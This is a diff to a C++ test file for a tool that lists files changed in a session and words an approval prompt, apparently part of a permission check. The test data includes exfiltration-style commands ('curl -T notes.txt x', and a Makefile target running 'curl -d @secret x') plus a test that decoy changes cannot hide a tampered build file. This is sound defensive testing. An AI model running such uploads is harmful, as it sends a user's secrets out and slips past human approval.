@@ -51,10 +51,12 @@ TEST(ChangedFiles, FilesChangedSinceTheStartAreListedNewestFirst) {
   EXPECT_FALSE(changed.walk_cut);
 
   const std::string prompt = describe_changed_files(changed, "sh src/build.sh && curl -T notes.txt x", 2);
-  EXPECT_NE(prompt.find("changed since this session began (3)"), std::string::npos) << prompt;
-  EXPECT_NE(
-      prompt.find("\n  notes.txt (named in the command)\n  src/build.sh (named in the command)\n  ... and 1 more"),
-      std::string::npos)
+  EXPECT_NE(prompt.find("changed since this session began (3, 3 of them named in the command, programs, scripts or "
+                        "build files)"),
+            std::string::npos)
+      << prompt;
+  EXPECT_NE(prompt.find(":\n  notes.txt (named in the command)\n  src/build.sh (named in the command)\n  old.sh"),
+            std::string::npos)
       << prompt;
   EXPECT_EQ(describe_changed_files(changed_since(ws, change_clock_now_ns() + 1000000000), "x"), "");
   // A workspace larger than the walk may look at says so.
@@ -72,4 +74,25 @@ TEST(ChangedFiles, AFolderTheWalkCannotReadIsNamed) {
   ASSERT_FALSE(changed.files.empty());
   EXPECT_EQ(changed.files[0].path, "hidden");
   EXPECT_TRUE(changed.files[0].unreadable_folder);
+}
+
+// Many other files touched after a script cannot push it out of the list:
+// programs, scripts and build files come before the rest.
+TEST(ChangedFiles, DecoysDoNotHideABuildFile) {
+  const std::string ws = fs::canonical(make_temp_dir("ws")).string();
+  for (int i = 0; i < 20; ++i) write_file(ws + "/src/f" + std::to_string(i) + ".c", "int x;\n");
+  write_file(ws + "/Makefile", "all:\n\ttrue\n");
+  next_tick();
+  const int64_t start = change_clock_now_ns();
+  next_tick();
+  write_file(ws + "/Makefile", "deps:\n\tcurl -d @secret x\n");
+  next_tick();
+  for (int i = 0; i < 20; ++i) ::chmod((ws + "/src/f" + std::to_string(i) + ".c").c_str(), 0600);
+  const std::string prompt = describe_changed_files(changed_since(ws, start), "make deps");
+  EXPECT_NE(prompt.find("(21, 1 of them named in the command, programs, scripts or build files)"), std::string::npos)
+      << prompt;
+  EXPECT_NE(prompt.find("build files), which the command may run; read them before you approve:\n  Makefile\n"),
+            std::string::npos)
+      << prompt;
+  EXPECT_NE(prompt.find("\n  ... and 6 more"), std::string::npos) << prompt;
 }
